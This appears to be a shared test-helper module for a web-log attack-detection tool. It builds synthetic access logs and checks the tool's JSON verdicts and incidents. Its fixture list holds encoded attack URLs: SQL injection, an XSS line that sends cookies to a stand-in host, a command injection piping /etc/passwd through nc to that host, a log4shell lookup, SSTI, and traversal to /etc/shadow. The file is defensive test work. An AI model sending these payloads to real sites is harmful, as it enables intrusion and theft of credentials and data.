# SPDX-License-Identifier: Apache-2.0
"""What the scenarios share: running the program, reading what it prints, and logs to feed it.

A scenario is a Python file with functions `case_*`; `main(globals())` runs them all and names each
that failed. It gets the program's path and a folder of its own, emptied first."""

import gzip
import json
import os
import random
import shutil
import subprocess
import sys
import traceback

PROGRAM = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else ""
SCRATCH = os.path.abspath(sys.argv[2]) if len(sys.argv) > 2 else ""
SANITIZED = bool(os.environ.get("STK_SANITIZE")) # slower, and hungry for address space
SEVERITIES = ("low", "medium", "high", "critical")
KINDS = """scan sqli xss traversal inclusion rce ssti log4shell xxe ssrf probe bad_bot deviation
brute_force credential_stuffing password_spraying scraping enumeration card_testing account_takeover
staff_exfiltration flood source_clock source_format""".split()


class Ran:
    """One finished run: exit code, both outputs, and the outputs as NDJSON."""

    def __init__(self, done):
        self.code, self.out, self.err = done.returncode, done.stdout, done.stderr

    def lines(self):
        return [json.loads(line) for line in self.out.decode().splitlines()]


def path(name):
    return os.path.join(SCRATCH, name)


def write(name, content):
    """A file in the scenario's folder; its path."""
    mode = "wb" if isinstance(content, bytes) else "w"
    with open(path(name), mode) as file:
        file.write(content)
    return path(name)


def run(*args, stdin=b"", timeout=60, before=None, env=None):
    done = subprocess.run([PROGRAM, *args], input=stdin, capture_output=True, timeout=timeout,
                          preexec_fn=before, cwd=SCRATCH, env={**os.environ, **(env or {})})
    ran = Ran(done)
    assert ran.code >= 0, f"{args}: ended by signal {-ran.code}: {ran.err[-2000:].decode(errors='replace')}"
    return ran


def replay(*args, **more):
    return run("replay", "--json", *args, **more)


def emit(what, *args, code=0, **more):
    """The lines of a replay that emits verdicts, findings or incidents."""
    ran = replay("--emit", what, *args, **more)
    assert ran.code == code, f"exit {ran.code}, not {code}: {ran.err[-2000:].decode(errors='replace')}"
    return ran.lines()


def clf(client="192.0.2.7", target="/", status=200, size=5120, agent="Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
        at=0, method="GET", referer="-", user="-", zone="+0000"):
    """One combined line, `at` seconds after 2026-03-02 00:00:00."""
    day, rest = divmod(int(at), 86400)
    stamp = f"{2 + day:02d}/Mar/2026:{rest // 3600:02d}:{rest // 60 % 60:02d}:{rest % 60:02d} {zone}"
    return f'{client} - {user} [{stamp}] "{method} {target} HTTP/1.1" {status} {size} "{referer}" "{agent}"\n'


# Attacks that any guard must know; beside each the kind it is.
ATTACKS = [
    ("/item?id=1%27%20union%20select%20login,pass%20from%20members--%20-", "sqli"),
    ("/item?id=1%20or%201=1%20--", "sqli"),
    ("/find?q=%3Cscript%3Edocument.location=%27//c.example/%27%2Bdocument.cookie%3C/script%3E", "xss"),
    ("/find?q=%22%3E%3Csvg/onload=confirm(1)%3E", "xss"),
    ("/show?file=../../../../etc/shadow", "traversal"),
    ("/ping?host=127.0.0.1;cat%20/etc/passwd%7Cnc%20c.example%2099", "rce"),
    ("/hi?name=%24%7Bjndi:ldap://c.example/x%7D", "log4shell"),
    ("/hi?name=%7B%7Bself.__init__.__globals__.__builtins__%7D%7D", "ssti"),
    ("/.git/config", "probe"),
    ("/.env", "probe"),
]


def shop_log(lines, seed=1, attacks=True, clients=400):
    """A log with ordinary visits and, spread through it, three attackers."""
    rng = random.Random(seed)
    out = []
    for n in range(lines):
        at = n * 86000 / lines
        client = f"240.{rng.randrange(4)}.{rng.randrange(40)}.{1 + rng.randrange(clients // 4)}"
        target = rng.choice(["/", "/c/chairs", "/c/lamps?page=2", f"/p/thing-{rng.randrange(300)}",
                             "/static/shop.css", f"/search?q=lamp+{rng.randrange(50)}", "/cart"])
        out.append(clf(client, target, 200, 4000 + rng.randrange(9000), at=at))
        if attacks and n % 211 == 17:
            target, _ = ATTACKS[n // 211 % len(ATTACKS)]
            out.append(clf("254.1.2.3", target, rng.choice([200, 404, 403]), 900, at=at))
        if attacks and lines // 3 < n < lines // 3 + 160:
            out.append(clf("254.7.7.7", "/account/login", 401, 700, at=at, method="POST"))
    return "".join(out)


def same_incidents(ours, theirs):
    """Equal but for their order."""
    def key(incident):
        return incident["id"]
    return sorted(ours, key=key) == sorted(theirs, key=key)


def expect_verdict(line, number):
    assert set(line) == {"v", "file", "n", "offset", "verdict", "score", "findings"}, line
    assert line["v"] == 1 and line["n"] == number and line["verdict"] in ("pass", "flag", "malformed")
    assert 0 <= line["score"] <= 1 and isinstance(line["offset"], int) and isinstance(line["file"], int)
    for finding in line["findings"]:
        assert set(finding) == {"id", "rule", "kind", "severity", "confidence", "where", "reason"}, finding
        expect_named(finding)
    assert (line["verdict"] == "flag") == bool(line["findings"]) or line["verdict"] == "malformed", line


def expect_named(row):
    assert row["kind"] in KINDS and row["severity"] in SEVERITIES, row
    assert 0 <= row["confidence"] <= 1, row
    assert isinstance(row["id"], str) and len(row["id"]) >= 8, row


def expect_incident(row):
    wanted = {"v", "id", "kind", "severity", "confidence", "first_at", "last_at", "actors", "targets",
              "techniques", "stage", "events", "units", "summary"}
    assert set(row) == wanted, set(row) ^ wanted
    expect_named(row)
    assert row["v"] == 1 and row["first_at"] <= row["last_at"] and row["events"] >= 1, row
    assert row["summary"] and all(set(a) == {"type", "value"} for a in row["actors"]), row
    assert all(isinstance(f, int) and n >= 1 for f, n in row["units"]), row["units"][:5]
    assert row["stage"] in ("reconnaissance", "attempt", "success", "reached"), row["stage"]


def packed(content):
    return gzip.compress(content if isinstance(content, bytes) else content.encode())


def main(names):
    cases = [(name, case) for name, case in names.items() if name.startswith("case_")]
    assert cases, "no cases"
    if os.path.isdir(SCRATCH):
        subprocess.run(["chmod", "-R", "u+rwx", SCRATCH], check=False)
        shutil.rmtree(SCRATCH)
    failed = 0
    for name, case in cases:
        os.makedirs(SCRATCH, exist_ok=True)
        try:
            case()
            print(f"ok      {name[5:].replace('_', ' ')}")
        except Exception:  # every case is told of, whatever broke it
            failed += 1
            print(f"FAILED  {name[5:].replace('_', ' ')}")
            traceback.print_exc(file=sys.stdout)
    print(f"{len(cases) - failed} passed, {failed} failed")
    sys.exit(failed > 0)
